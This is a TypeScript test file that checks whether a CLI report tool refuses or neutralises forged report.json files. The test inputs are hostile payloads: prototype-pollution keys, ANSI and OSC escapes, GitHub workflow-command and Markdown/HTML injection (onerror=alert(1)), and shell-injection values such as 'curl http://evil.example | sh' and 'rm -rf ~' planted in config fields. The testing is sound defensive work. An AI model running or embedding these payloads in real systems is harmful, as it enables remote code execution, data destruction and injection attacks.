/**
 * Hostile report artefacts: a report.json may come from another job of the pull request a gate
 * judges, so `vapc report` and `vapc report merge` must treat it like a server's answer. Each case
 * is a crafted file that either is refused (exit 2, one line, never "internal error") or renders
 * inert (no control character, no line a runner reads as a workflow command, no Markdown or HTML
 * of its making, no trust in its own counts or baseline marks). The big ones, run in a child
 * process whose peak memory is measured, are test/slow/hostile-artefacts-big.test.ts (the slow tier).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { RunReport } from '../../../src/results/model.js';
import {
  artefactWorkspace,
  expectInert,
  expectRefused,
  fixture,
  forgedKnown,
  vapc,
} from '../../helpers/hostile-artefacts.js';

const { root, dirWith, shardDirs } = artefactWorkspace();

describe('hostile report artefacts: refused with exit 2 and one line', () => {
  it('a forged shard count within bounds but above the shards given names a few missing, not millions', async () => {
    const dirs = shardDirs((parts) => parts.forEach((p) => (p.shard!.count = 999_999)));
    const r = await vapc(['report', 'merge', ...dirs, '--report-dir', join(root, 'merged-count2')]);
    expectRefused(r, /shards 3\/999999, .* and 999987 more missing/);
    expect(r.err.length).toBeLessThan(500);
  });

  it('deep nesting (100 000 levels in config) is refused before anything walks it', async () => {
    const r0 = fixture('passing-run');
    const text = JSON.stringify({ ...r0, config: { x: '@' } }).replace(
      '"@"',
      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    );
    expectRefused(await vapc(['report', dirWith(text)]), /nested deeper than 64 levels/);
  });

  it('a __proto__ key in a result', async () => {
    const text = JSON.stringify(fixture('failing-run')).replace('"id":', '"__proto__":{"polluted":true},"id":');
    expectRefused(
      await vapc(['report', dirWith(text), '--format', 'console']),
      /key \/results\/0\/__proto__ is refused/,
    );
  });

  it('a constructor key in the summary', async () => {
    const text = JSON.stringify(fixture('failing-run')).replace(
      '"summary":{',
      '"summary":{"constructor":{"prototype":1},',
    );
    expectRefused(
      await vapc(['report', dirWith(text), '--format', 'console']),
      /key \/summary\/constructor is refused/,
    );
  });

  const wrongTypes: Array<[string, (r: RunReport) => void, RegExp]> = [
    [
      'requests as a string',
      (r) => ((r.results[0] as unknown as Record<string, unknown>).requests = 'many'),
      /results\[0\]\.requests must be integer/,
    ],
    [
      'a negative summary count',
      (r) => ((r.summary as unknown as Record<string, unknown>).requests = -5),
      /summary\.requests must be >= 0/,
    ],
    [
      'a failure without expected',
      (r) => ((r.results[1]!.failures as unknown[])[0] = { actual: 'x' }),
      /results\[1\]\.failures\[0\]\.expected is missing/,
    ],
    [
      'expected as an object',
      (r) => ((r.results[1]!.failures![0] as unknown as Record<string, unknown>).expected = { a: 1 }),
      /expected must be string/,
    ],
    [
      'a message of 200 000 characters',
      (r) => (r.results[0]!.message = 'x'.repeat(200_000)),
      /message must NOT have more than 100000 characters/,
    ],
  ];
  for (const [what, edit, why] of wrongTypes) {
    it(`wrong types: ${what}`, async () => {
      const r = fixture('failing-run');
      edit(r);
      expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), why);
    });
  }

  it('ANSI in a suite name (a suite is lower-case letters)', async () => {
    const r = fixture('failing-run');
    (r.results[0] as unknown as Record<string, unknown>).suite = 'auth\u001b[2J\u001b]0;owned\u0007';
    expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), /results\[0\]\.suite must match pattern /);
  });

  it('OSC, ::error and a Markdown link in not_observed[].this_run (an enum)', async () => {
    const r = forgedKnown();
    r.baseline!.not_observed = [
      {
        check: 'a.b',
        operation: 'GET /x',
        kind: 'mismatch',
        reason: 'r',
        this_run: 'passed\u001b]8;;http://evil\u0007\r::error::pwned [x](http://evil)' as 'passed',
      },
    ];
    expectRefused(
      await vapc(['report', dirWith(r), '--format', 'console']),
      /not_observed\[0\]\.this_run must be one of passed, failed, skipped, error, not-run/,
    );
  });
});

describe('hostile report artefacts: rendered inert', () => {
  const HOSTILE =
    '\u001b[31mred\u001b]0;title\u0007\r::error::injected\n::warning file=x::two [link](http://evil.example) ![img](http://evil.example/x.png) <img src=x onerror=alert(1)>';

  /** The failing fixture with hostile text in every free-text field vapc used to pass through. */
  function hostile(): RunReport {
    const r = fixture('failing-run');
    r.results = r.results.map((x) => ({
      ...x,
      id: `${x.id}${HOSTILE}`,
      operation: `${x.operation} ${HOSTILE}`,
      rule: `${x.rule} ${HOSTILE}`,
      message: `${x.message} ${HOSTILE}`,
    }));
    r.observations = r.observations.map((o) => ({ ...o, id: `${o.id}${HOSTILE}`, operation: HOSTILE }));
    r.spec_version = HOSTILE;
    return r;
  }

  it('the console shows ANSI, OSC, CR and ::commands from every field as visible text', async () => {
    const r = await vapc(['report', dirWith(hostile()), '--format', 'console']);
    expect(r.code).toBe(1);
    expectInert(r.out + r.err);
    expect(r.out).toContain('\\x1b[31mred');
  });

  it("the GitHub step summary and annotations render no link, image, HTML or command of the report's making", async () => {
    const summary = join(mkdtempSync(join(root, 'gh-')), 'summary.md');
    writeFileSync(summary, '');
    const r = await vapc(['report', dirWith(hostile()), '--format', 'console'], {
      GITHUB_ACTIONS: 'true',
      GITHUB_STEP_SUMMARY: summary,
    });
    const md = readFileSync(summary, 'utf8');
    expectInert(md);
    // Outside code spans (where nothing renders), no `](` that is not escaped, no HTML tag.
    const rendered = md.replace(/`[^`\n]*`/g, '');
    expect(rendered).not.toMatch(/(?<!\\)\]\(/);
    expect(rendered).not.toMatch(/<img|<a\s/i);
    expect(rendered).toContain('\\[link\\]\\(http&#58;//evil.example\\)');
    // Annotations are vapc's own commands: one ::error per failure, the report's text escaped inside them.
    const commands = r.out.split('\n').filter((l) => l.startsWith('::'));
    expect(commands.every((l) => /^::(error|warning) title=/.test(l))).toBe(true);
    expect(commands.join('\n')).not.toMatch(/\r|\x1b/);
  });

  it('a rule of an unknown check id reaches SARIF as plain text only, never as Markdown', async () => {
    const r = fixture('failing-run');
    const evil = {
      ...r.results[1]!,
      id: 'evil.unknown-check',
      rule: '[click](http://evil.example) <img src=x onerror=alert(1)> **bold**',
    };
    r.results.push(evil);
    const dir = dirWith(r);
    await vapc(['report', dir, '--format', 'sarif']);
    const sarif = JSON.parse(readFileSync(join(dir, 'report.sarif'), 'utf8')) as {
      runs: Array<{ tool: { driver: { rules: Array<{ id: string; help: { text: string; markdown?: string } }> } } }>;
    };
    const rule = sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'evil.unknown-check')!;
    expect(rule.help.markdown).toBeUndefined();
    expect(rule.help.text).toContain('[click](http://evil.example)');
    // The registry's own rules keep their Markdown help.
    expect(
      sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'ranges.max-concurrency-above-maximum')!.help.markdown,
    ).toBeDefined();
  });

  it('a forged baseline.known: true on a failed result does not hide it (vapc report)', async () => {
    const r = await vapc(['report', dirWith(forgedKnown()), '--format', 'console']);
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/FAILED: 1 of \d+ checks failed/);
    expect(r.err).toMatch(/pass --baseline FILE to recompute them/);
  });

  it('a forged baseline.known: true on a failed result does not hide it (vapc report merge)', async () => {
    const dirs = shardDirs((parts) => {
      const failed = parts[0]!.results.find((x) => x.status === 'failed')!;
      for (const p of parts)
        for (const x of p.results)
          if (x.status === 'failed' && x !== failed) Object.assign(x, { status: 'passed', failures: [] });
      failed.baseline = { known: true, kinds: ['status:4xx'], reason: 'accepted' };
      for (const p of parts) p.results = p.results.map((x) => (x.status === 'error' ? { ...x, status: 'passed' } : x));
    });
    const out = join(root, 'merged-known');
    const r = await vapc(['report', 'merge', ...dirs, '--report-dir', out]);
    expect(r.code).toBe(1);
    const merged = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as RunReport;
    expect(merged.results.filter((x) => x.status === 'failed').every((x) => x.baseline === undefined)).toBe(true);
  });

  it("the replay command built from a forged config stays one command (no shell text of the report's making)", async () => {
    const f = fixture('failing-run');
    const r = await vapc([
      'report',
      dirWith({
        ...f,
        config: { ...f.config, suites: ['auth', 'x; curl http://evil.example | sh'], config_file: "a'; rm -rf ~; '" },
      }),
      '--format',
      'console',
    ]);
    const replay = r.out.split('\n').find((l) => l.startsWith('replay: '))!;
    expect(replay).toContain('--suite auth');
    expect(replay).not.toContain('curl http://evil.example');
    expect(replay).toContain(`--config 'a'\\''; rm -rf ~; '\\'''`);
  });

  it('forged summary counts are recomputed from the results', async () => {
    const f = fixture('failing-run');
    const r = await vapc([
      'report',
      dirWith({
        ...f,
        summary: { ...f.summary, passed: 900, failed: 0, skipped: 0, errors: 0, requests: 999_999_999 },
      }),
      '--format',
      'console',
    ]);
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/^total\s+6\s+6\s+2\s+1$/m);
    expect(r.out).not.toContain('999999999 requests');
  });
});
